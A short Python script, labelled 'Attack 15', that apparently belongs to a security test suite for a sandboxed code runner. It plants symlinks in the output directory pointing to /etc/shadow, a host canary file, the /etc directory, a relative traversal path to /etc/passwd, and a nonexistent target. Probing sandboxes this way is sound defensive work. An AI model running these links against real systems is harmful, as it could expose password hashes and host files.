# Attack 15: plant symlinks where the runner collects output: to /etc/shadow,
# to a host canary path, through a symlinked directory, and a dangling one.
import os
import sys

canary = sys.argv[1]
os.symlink("/etc/shadow", "/work/out.txt")
os.symlink(canary, "/work/canary.txt")
os.symlink("/etc", "/work/etc")
os.symlink("../../../../../etc/passwd", "/work/rel.txt")
os.symlink("/nonexistent", "/work/dangling.txt")
print("planted=5")
